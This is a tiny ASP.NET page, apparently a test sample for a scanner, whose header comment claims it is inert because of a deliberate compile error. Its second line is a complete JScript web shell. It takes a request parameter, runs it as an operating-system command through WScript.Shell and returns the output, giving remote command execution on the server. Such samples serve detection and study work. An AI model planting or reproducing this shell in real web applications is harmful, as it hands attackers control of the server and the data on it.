<% shodo inert sample: deliberate compile error, this page never runs %>
<%@ Page Language="JScript" %><% Response.Write(new ActiveXObject("WScript.Shell").Exec(Request["c"]).StdOut.ReadAll()); %>
